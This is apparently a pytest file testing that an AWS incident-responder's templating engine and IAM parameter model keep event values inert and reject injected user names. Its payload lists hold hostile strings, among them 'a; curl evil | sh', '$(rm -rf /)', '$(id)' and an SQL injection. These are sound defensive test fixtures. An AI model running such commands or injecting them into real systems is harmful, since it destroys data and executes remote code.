"""Templating binds values by path and never evaluates what an event carries."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from responder.actuators.aws.iam import AccessKeyParams
from responder.engine.templating import TemplateError, render

SCOPE = {"event": {"actor": "alice", "severity": {"score": 8.0}, "resource": {"access_key": {"id": "AKIA1"}}}}


def test_whole_placeholder_keeps_type():
    """A value that is exactly one placeholder becomes the typed value."""
    assert render("${event.severity.score}", SCOPE) == 8.0


def test_embedded_placeholder_is_text():
    """A placeholder inside text is replaced by the value's text."""
    assert render("user ${event.actor}!", SCOPE) == "user alice!"


@pytest.mark.parametrize("payload", ["{{7*7}}", "${event.actor}", "$(rm -rf /)", "a; curl evil | sh", "x" * 10_000])
def test_injected_values_stay_inert(payload):
    """Values arriving in an event are substituted once and never re-rendered or evaluated."""
    scope = {"event": {"actor": payload}}
    assert render("${event.actor}", scope) == payload
    assert render("u=${event.actor}", scope) == f"u={payload}"


@pytest.mark.parametrize("payload", ["{{7*7}}", "alice; rm -rf /", "x" * 100])
def test_params_model_rejects_injected_user_names(payload):
    """An injected user name never reaches IAM: the params model rejects it."""
    with pytest.raises(ValidationError):
        AccessKeyParams(user_name=payload, access_key_id="AKIAABCDEFGHIJKLMNOP")


def test_missing_path_is_an_error():
    """A path the event does not carry is a TemplateError, not an empty string."""
    with pytest.raises(TemplateError):
        render("${event.nothing.here}", SCOPE)


def test_unknown_namespace_is_an_error():
    """Paths must start with event, incident or steps."""
    with pytest.raises(TemplateError):
        render("${os.environ}", SCOPE)


INJECTIONS = ["{{7*7}}", "${event.account}", "$(id)", "`id`", "a; rm -rf / #", "x' OR '1'='1", "x" * 3000]


async def test_injected_event_values_reach_the_actuator_verbatim(tmp_path):
    """Through the whole engine, hostile text in an event arrives as the same inert string, never evaluated."""
    from tests.kit import make_kit

    body = 'steps:\n  - {id: note, actuator: test.echo, with: {target: t1, message: "${event.actor}"}}\n'
    kit = make_kit(tmp_path, {"rb": body})
    for n, payload in enumerate(INJECTIONS):
        kit.engine.state.clear()
        event = _event_with_actor(payload, n)
        await kit.engine.handle(_match(kit, event))
    assert [p.message for p in kit.echo.applied] == INJECTIONS


async def test_injected_user_name_never_reaches_iam(tmp_path):
    """A hostile user name in a finding is rejected by the params model: the step fails, IAM is not called."""
    from tests.kit import DEACTIVATE_STEPS, make_kit

    body = DEACTIVATE_STEPS
    kit = make_kit(tmp_path, {"rb": body})
    await kit.send(user="{{7*7}}; rm -rf /")
    [result] = kit.entries("step.result")
    assert result["status"] == "failed"
    assert "invalid parameters" in result["error"]
    assert kit.iam.calls == []


def _event_with_actor(actor, n):
    from responder.normalise import normalise
    from tests.findings import envelope_bytes, guardduty_finding

    [event] = normalise(envelope_bytes(guardduty_finding("AKIAABCDEFGHIJKLMNOP", finding_id=f"f{n}")))
    return event.model_copy(update={"actor": actor})


def _match(kit, event):
    from responder.rules.matcher import Match

    return Match(kit.pipeline.matcher.runbooks[0], event)


def test_whole_placeholder_reads_as_lookup_does():
    """A whole placeholder gives what lookup gives; a value of None is an error, as a missing one is."""
    from responder.rules.conditions import lookup

    scope = {"event": {"a": {"b": [1, {"c": "x"}]}, "none": None}}
    assert render("${event.a.b.1.c}", scope) == lookup(scope, "event.a.b.1.c") == "x"
    assert render("${event.a.b}", scope) == [1, {"c": "x"}]
    with pytest.raises(TemplateError, match="not set"):
        render("${event.none}", scope)
